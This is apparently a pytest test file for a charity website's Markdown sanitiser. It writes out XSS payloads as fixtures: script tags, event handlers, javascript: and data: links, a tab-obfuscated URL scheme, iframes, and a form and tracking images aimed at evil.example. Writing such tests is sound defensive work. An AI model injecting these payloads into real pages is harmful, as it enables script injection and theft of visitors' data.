"""Staff Markdown becomes safe HTML: tables and Chinese text stay, anything that could run or load from elsewhere goes."""

from __future__ import annotations

import re

import pytest
from factories import make_news, make_page

from charity_site.core.markdown import render_markdown
from charity_site.extensions import db

TABLE = """| 事项 | 金额 |
|---|---:|
| 重阳节慰问 | 42,800.00元 |
| 春节慰问 | 18,500.00元 |
"""

HOSTILE = """# 年度报告

善款公开，欢迎监督。<script>alert("偷cookie")</script>

<img src="/static/img/logo.svg" onerror="alert('onerror')" alt="本会标志">

[恶意链接](javascript:alert('js-link')) <a href="JaVaScRiPt:alert('js-upper')">大写协议</a>

[数据链接](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)

![外站图片](https://evil.example/track.png) ![数据图片](data:image/png;base64,iVBORw0KGgo=)

<p style="position:fixed;top:0" onclick="alert('onclick')">红色大字</p>

<iframe src="https://evil.example/frame"></iframe>

<svg onload="alert('svg')"><circle r="1"/></svg>

<form action="https://evil.example/steal"><input name="phone"></form>
"""

HOSTILE_MARKERS = (
    "<script", "alert(", "onerror", "onclick", "onload", "javascript:", "data:", "style=",
    "<iframe", "<svg", "<form", "<input", "evil.example", "<h1",
)


def test_tables_and_chinese_text_survive():
    html = render_markdown("## 收支\n\n善款用途如下：\n\n" + TABLE)

    assert "<h2>收支</h2>" in html
    assert "<p>善款用途如下：</p>" in html
    assert "<table>" in html
    assert "<th>事项</th>" in html
    assert re.search(r'<td( align="right")?>42,800\.00元</td>', html)
    assert "<td>春节慰问</td>" in html


def test_links_and_local_images_are_kept():
    html = render_markdown("[慈善中国](https://cszg.mca.gov.cn/) ![标志](/static/img/logo.svg)")

    assert 'href="https://cszg.mca.gov.cn/"' in html
    assert 'src="/static/img/logo.svg"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_a_top_level_heading_becomes_h2_because_the_page_title_is_the_only_h1():
    html = render_markdown("# 项目进展\n\n正文")

    assert "<h2>项目进展</h2>" in html
    assert "<h1" not in html


def test_empty_markdown_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


@pytest.mark.parametrize(
    ("markdown", "removed"),
    [
        ('正文<script>alert("x")</script>', ("<script", "alert(")),
        ('<img src="/static/img/logo.svg" onerror="alert(1)" alt="标志">', ("onerror", "alert(")),
        ("[点我](javascript:alert(1))", ("javascript:",)),
        ('<a href="JaVaScRiPt:alert(1)">点我</a>', ("javascript:", "alert(")),
        ('<a href="java&#x09;script:alert(1)">点我</a>', ("script:", "alert(")),
        ("[数据](data:text/html;base64,PHNjcmlwdD4=)", ("data:",)),
        ("![图](data:image/png;base64,iVBORw0KGgo=)", ("data:",)),
        ('<p style="color:red">红字</p>', ("style=", "color:red")),
        ('<iframe src="https://evil.example/frame"></iframe>', ("<iframe", "evil.example")),
        ("![外站](https://evil.example/track.png)", ("evil.example",)),
        ("![外站](http://evil.example/track.png)", ("evil.example",)),
        ("![协议相对](//evil.example/track.png)", ("evil.example",)),
        ('<img src="/\\evil.example/track.png" alt="反斜杠">', ("evil.example",)),
        ("![反斜杠](/\\evil.example/track.png)", ("evil.example",)),
        ('<img src="/&#9;/evil.example/track.png" alt="制表符">', ("evil.example",)),
        ('<svg onload="alert(1)"><circle r="1"/></svg>', ("<svg", "onload")),
        ('<object data="https://evil.example/x.swf"></object>', ("<object", "evil.example")),
    ],
    ids=[
        "script", "onerror", "javascript-link", "javascript-upper-case", "javascript-with-tab",
        "data-link", "data-image", "style", "iframe", "image-https-other-host", "image-http-other-host",
        "image-protocol-relative", "image-backslash-other-host", "markdown-image-backslash-other-host",
        "image-tab-other-host", "svg-onload", "object",
    ],
)
def test_hostile_markup_is_removed(markdown, removed):
    html = render_markdown(markdown).lower()

    for marker in removed:
        assert marker.lower() not in html, f"{marker!r} survived in {html!r}"


def test_visible_words_of_hostile_markdown_are_kept():
    html = render_markdown(HOSTILE)

    for words in ("年度报告", "善款公开，欢迎监督。", "本会标志", "恶意链接", "红色大字"):
        assert words in html


def _publish_hostile_page_and_news():
    page = make_page(slug="hostile-page", title="恶意页面测试", body_md=HOSTILE)
    post = make_news(slug="hostile-news", title="恶意新闻测试", body_md=HOSTILE)
    db.session.commit()
    return page, post


@pytest.mark.parametrize("url", ["/pages/hostile-page", "/news/hostile-news"])
def test_hostile_markdown_in_a_published_body_is_neutralised_on_the_public_page(app, client, url):
    _publish_hostile_page_and_news()

    response = client.get(url)
    body = response.get_data(as_text=True)

    assert response.status_code == 200
    assert "善款公开，欢迎监督。" in body
    assert "红色大字" in body
    lowered = body.lower()
    # The site's own layout has forms and scripts; only the staff-written body must have none.
    article = lowered.split('class="prose', 1)[1].split("</article>", 1)[0]
    for marker in HOSTILE_MARKERS:
        if marker == "<h1":
            assert lowered.count("<h1") == 1, "the page title must be the only h1"
            continue
        assert marker not in article, f"{marker!r} reached the public page {url}"


def test_a_text_is_rendered_once_however_often_it_is_shown(monkeypatch):
    """A crowd on one project page, or a body shown in the page, its description and its feed entry,
    runs Markdown and the sanitiser once per text; an edited text is a new text and shows at once."""
    import markdown as markdown_lib

    from charity_site.core import markdown as site_markdown

    calls = []
    real = markdown_lib.markdown
    monkeypatch.setattr(site_markdown.markdown_lib, "markdown", lambda *args, **kw: calls.append(1) or real(*args, **kw))
    body = "## 项目进展\n\n本月为 **37 户** 困难家庭发放救助金（只渲染一次的测试文本）。"
    first = [site_markdown.render_markdown(body) for _ in range(5)]
    assert len(calls) == 1
    assert all(html == first[0] for html in first)
    assert "<h3>" not in first[0] and "<h2>项目进展</h2>" in first[0] and "<strong>37 户</strong>" in first[0]

    edited = body.replace("37 户", "38 户")
    assert "<strong>38 户</strong>" in site_markdown.render_markdown(edited)
    assert len(calls) == 2
